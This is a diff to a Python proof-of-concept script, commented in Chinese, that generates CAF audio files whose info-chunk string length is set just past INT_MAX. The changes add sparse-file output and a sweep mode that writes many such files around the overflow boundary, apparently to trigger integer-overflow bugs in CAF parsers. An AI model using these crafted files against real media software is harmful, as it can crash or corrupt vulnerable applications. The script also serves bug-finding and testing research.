@@ -1,16 +1,23 @@
-import os, struct
+import argparse, os, struct, sys
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
+from poclib.sparse import SparseBuffer, SparseFile
+from poclib.cli import parse_values
 
 fn = "caf_info_big.caf"
 
 # 让 info 的“字符串区长度”刚好超过 INT_MAX
-strings_len = 0x8000000C          # 2147483660
-info_chunk_size = strings_len + 4 # info chunk 总大小（包含 count）
+STRINGS_LEN = 0x8000000C          # 2147483660
 
 def be16(x): return struct.pack(">H", x)
 def be32(x): return struct.pack(">I", x)
 def be64(x): return struct.pack(">Q", x)
 
-with open(fn, "wb") as f:
+def write_caf(f, strings_len=STRINGS_LEN):
+    # f: 任意 sink（SparseFile / SparseBuffer），需要 write() 和 skip()
+    info_chunk_size = strings_len + 4 # info chunk 总大小（包含 count）
+
     # CAF file header
     f.write(b"caff")
     f.write(be16(1))   # version
@@ -34,11 +41,46 @@ with open(fn, "wb") as f:
     f.write(be32(1))                     # count
 
     # 跳过超大字符串区，做成 sparse
-    f.seek(strings_len, os.SEEK_CUR)
+    f.skip(strings_len)
 
     # data chunk（最小合法占位）
     f.write(b"data")
     f.write(be64(4))
     f.write(be32(0))                     # edit count
 
-print("wrote", fn)
\ No newline at end of file
+def build_caf(strings_len=STRINGS_LEN):
+    # 进程内使用：返回 hole-aware 的内存文件，只保存实际写入的字节
+    buf = SparseBuffer()
+    write_caf(buf, strings_len)
+    buf.seek(0)
+    return buf
+
+def write_caf_file(path, strings_len=STRINGS_LEN, strict=False):
+    with SparseFile(path, strict=strict) as f:
+        write_caf(f, strings_len)
+    return f.verify()
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--out", default=fn)
+    ap.add_argument("--strings-len", default=hex(STRINGS_LEN), help="single value, list or range, e.g. 0x7ffffff0-0x80000010")
+    ap.add_argument("--sweep", metavar="DIR", help="write one file per --strings-len value into DIR")
+    ap.add_argument("--strict", action="store_true", help="fail instead of writing densely on filesystems without hole support")
+    args = ap.parse_args()
+
+    values = parse_values(args.strings_len)
+    if not args.sweep:
+        r = write_caf_file(args.out, values[0], args.strict)
+        print("wrote", args.out)
+        print(f"    size={r['size']} allocated={r['allocated']} holes_verified={r['holes_verified']}")
+        return
+
+    os.makedirs(args.sweep, exist_ok=True)
+    dense = 0
+    for n in values:
+        r = write_caf_file(os.path.join(args.sweep, f"caf_info_{n:08x}.caf"), n, args.strict)
+        dense += not r["holes_verified"]
+    print(f"wrote {len(values)} files to {args.sweep} ({dense} without verified holes)")
+
+if __name__ == "__main__":
+    main()
\ No newline at end of file